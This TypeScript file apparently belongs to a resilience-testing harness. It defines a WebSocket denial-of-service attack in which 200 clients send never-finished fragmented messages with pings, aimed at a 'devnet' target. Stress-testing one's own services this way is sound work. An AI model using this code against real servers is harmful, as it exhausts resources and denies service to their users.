import type { Attack } from "../attack.ts";

const CLIENTS = 200;
const FRAGMENT = "x".repeat(60_000);
const SMALL = 16_000;

export const webSocketFragments: Attack = {
  name: "web-socket-fragments",
  does: "200 WebSocket clients send messages of large or of tiny fragments that never end, with pings between them",
  targets: ["devnet"],
  async run(attacker) {
    await attacker.again(CLIENTS, async (turn) => {
      const client = await attacker.webSocket();
      if (client === undefined) return;
      const isSmall = turn % 2 === 0;
      for (let sent = 0; sent < (isSmall ? SMALL : 200) && client.readyState === 1 && !attacker.isOver(); sent++) {
        client.send(isSmall ? "x" : FRAGMENT, { fin: false });
        if (sent % (isSmall ? 100 : 1) === 0) {
          client.ping();
          await attacker.wait(1);
        }
      }
      await attacker.wait(1000);
      client.terminate();
    });
  },
};
